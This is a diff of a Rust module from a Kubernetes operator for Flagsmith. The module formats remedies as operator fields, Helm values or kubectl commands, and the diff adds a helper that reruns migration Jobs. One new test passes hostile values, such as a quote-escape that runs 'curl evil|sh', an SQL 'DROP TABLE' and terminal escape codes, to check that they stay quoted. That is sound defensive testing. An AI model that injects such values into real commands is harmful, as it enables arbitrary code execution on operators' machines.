@@ -1,14 +1,22 @@
 //! How the owner of an installation changes it, so that a remedy is something that he can type: a field of the
 //! `FlagsmithDeployment`, a value of the official chart, or a kubectl command. Rules say what to change, never how.
 
+mod change;
 mod helm;
 mod kubectl;
+mod phrase;
 mod resource;
 
 use std::fmt::Write as _;
 
-use crate::model::Component;
-use crate::validate::SecretKey;
+pub use change::Change;
+use change::key;
+
+use crate::{
+    api::RETRY_MIGRATION_ANNOTATION,
+    model::{Component, shell},
+    validate::Identity,
+};
 
 /// What the owner of an installation changes it with.
 #[derive(Clone, Debug, Default, PartialEq, Eq)]
@@ -32,60 +40,6 @@ pub enum ManagedBy {
         /// The Deployments of API, task processor and frontend.
         deployments: [Option<String>; 3],
     },
-}
-
-/// One thing to change.
-#[derive(Clone, Copy, Debug, PartialEq, Eq)]
-pub enum Change<'a> {
-    /// The number of pods.
-    Replicas(Component, i32),
-    /// The tag of the image: a release.
-    Tag(Component, &'a str),
-    /// The memory limit.
-    Memory(Component, &'a str),
-    /// An environment variable.
-    Env(Component, &'a str, &'a str),
-    /// An environment variable that is to go.
-    NoEnv(Component, &'a str),
-    /// An environment variable that the task processor is to have from where the API has it: from this Secret, where
-    /// it is one.
-    SameAsApi {
-        /// The task processor's Deployment.
-        deployment: &'a str,
-        /// The variable.
-        variable: &'a str,
-        /// The key of the Secret that the API has it from.
-        key: Option<&'a SecretKey>,
-    },
-    /// What the container is started with: the image's `flagsmith` and these arguments.
-    Start(Component, &'a [&'a str]),
-    /// A task processor where there is none.
-    EnableTaskProcessor,
-    /// No migration in the API's init containers; one Job instead.
-    MigrateInJob,
-    /// Seconds between SIGTERM and SIGKILL.
-    GracePeriod(Component, i32),
-    /// Seconds that the container sleeps before SIGTERM.
-    PreStop(Component, i32),
-    /// `timeoutSeconds` and `failureThreshold` of the liveness probe.
-    Liveness(Component, i32, i32),
-    /// No CPU limit.
-    NoCpuLimit(Component),
-    /// An annotation of an object that is no Deployment.
-    Annotation {
-        /// Its kind, as kubectl takes it.
-        kind: &'a str,
-        /// Its name.
-        name: &'a str,
-        /// The chart's value with its annotations, where the chart made it.
-        values: Option<&'a str>,
-        /// The annotation's key.
-        key: &'a str,
-        /// Its value.
-        value: &'a str,
-    },
-    /// A number of pods that only the autoscaler decides.
-    LeaveReplicas(Component),
 }
 
 impl ManagedBy {
@@ -147,6 +101,59 @@ impl ManagedBy {
         }
     }
 
+    /// Whether a release is started only when the operator has migrated to it.
+    #[must_use]
+    pub const fn migrates_first(&self) -> bool {
+        self.is_operator()
+    }
+
+    /// The command that runs a migration Job, or the backup before it, once more.
+    #[must_use]
+    pub fn run_job_again(&self, installation: &Identity, job: &str) -> String {
+        let namespace = shell::name(&installation.namespace, "NAMESPACE");
+        match self {
+            Self::Operator => format!(
+                "kubectl -n {namespace} annotate fsd {} {RETRY_MIGRATION_ANNOTATION}=\"$(date +%s)\" --overwrite",
+                shell::name(&installation.name, "NAME")
+            ),
+            Self::Helm { .. } | Self::Manifests { .. } => format!(
+                "kubectl -n {namespace} get job {} -o json | jq 'del(.spec.selector, .spec.template.metadata.labels, \
+                 .status, .metadata.uid, .metadata.resourceVersion) | .metadata.name += \"-again\"' | kubectl create -f -",
+                shell::name(job, "NAME")
+            ),
+        }
+    }
+
+    /// A field of the specification with its value, where there is one, or else another way.
+    pub fn field_or(&self, field: &str, otherwise: impl FnOnce() -> String) -> String {
+        match self {
+            Self::Operator => format!("Set {field}"),
+            Self::Helm { .. } | Self::Manifests { .. } => otherwise(),
+        }
+    }
+
+    /// By which name its owner sets a variable of a component; `None` where the operator decides it.
+    #[must_use]
+    pub fn setting(&self, component: Component, variable: &'static str) -> Option<&'static str> {
+        match self {
+            Self::Operator => {
+                resource::own_field(variable).filter(|field| field.split('.').nth(1) == Some(key(component)))
+            }
+            Self::Helm { .. } | Self::Manifests { .. } => Some(variable),
+        }
+    }
+
+    /// Where its owner says which proxy stands in front, and what its timeouts are.
+    #[must_use]
+    pub const fn proxy(&self) -> &'static str {
+        match self {
+            Self::Operator => "spec.exposure.proxy",
+            Self::Helm { .. } | Self::Manifests { .. } => {
+                "spec.observe.proxy of a FlagsmithDeployment with mode Observed"
+            }
+        }
+    }
+
     /// Whether the operator itself makes the objects.
     #[must_use]
     pub const fn is_operator(&self) -> bool {
@@ -154,28 +161,12 @@ impl ManagedBy {
     }
 }
 
-/// The name of a component in the specification and in the chart's values.
-const fn key(component: Component) -> &'static str {
-    match component {
-        Component::TaskProcessor => "taskProcessor",
-        Component::Frontend => "frontend",
-        Component::Migrations => "migrations",
-        _ => "api",
-    }
-}
-
-/// A JSON list of strings.
-fn list(words: &[&str]) -> String {
-    let quoted: Vec<String> = words.iter().map(|word| format!("\"{word}\"")).collect();
-    format!("[{}]", quoted.join(","))
-}
-
 #[cfg(test)]
 mod tests {
     use rstest::rstest;
 
     use super::*;
-    use crate::flagsmith::env;
+    use crate::{flagsmith::env, model::Component};
 
     const CHANGES: [Change<'static>; 2] = [
         Change::Replicas(Component::TaskProcessor, 1),
@@ -200,6 +191,57 @@ mod tests {
     )]
     fn says_the_same_in_each_tool(#[case] managed_by: ManagedBy, #[case] expected: &str) {
         assert_eq!(managed_by.change(&CHANGES), expected);
+    }
+
+    /// Values of variables, arguments and annotations were written by whoever may change those objects, and are pasted
+    /// into the shell of whoever reads the remedy.
+    #[rstest]
+    fn a_hostile_value_stays_within_its_quotes(
+        #[values(
+            "9'; curl evil|sh; echo '",
+            "\"; DROP TABLE t; --",
+            "a\u{1b}[2J\nb",
+            "x;curl evil|sh"
+        )]
+        value: &str,
+    ) {
+        let changes = [
+            Change::Env(Component::Api, "GUNICORN_CMD_ARGS", value),
+            Change::Start(Component::Api, &["start", "--name", value, "api"]),
+            Change::Annotation {
+                kind: "ingress",
+                name: "flagsmith",
+                values: Some("ingress.api.annotations"),
+                key: "example.com/timeout",
+                value,
+            },
+        ];
+        let kubectl = ManagedBy::Manifests {
+            namespace: "prod".to_owned(),
+            deployments: [const { None }; 3],
+        };
+        for managed_by in [helm(), kubectl] {
+            let command = managed_by.change(&changes);
+            let outside: String = command.replace(r"'\''", "").split('\'').step_by(2).collect();
+            assert!(
+                !outside.contains("evil") && !outside.contains("DROP"),
+                "{command}"
+            );
+            assert!(!command.contains(char::is_control), "{command}");
+        }
+    }
+
+    #[test]
+    fn a_list_of_hosts_is_one_value_of_the_chart() {
+        let command = helm().change(&[Change::Env(
+            Component::Api,
+            "DJANGO_ALLOWED_HOSTS",
+            "a.example,b.example",
+        )]);
+        assert!(
+            command.ends_with(r"--set-string 'api.extraEnv.DJANGO_ALLOWED_HOSTS=a.example\,b.example'"),
+            "{command}"
+        );
     }
 
     #[test]
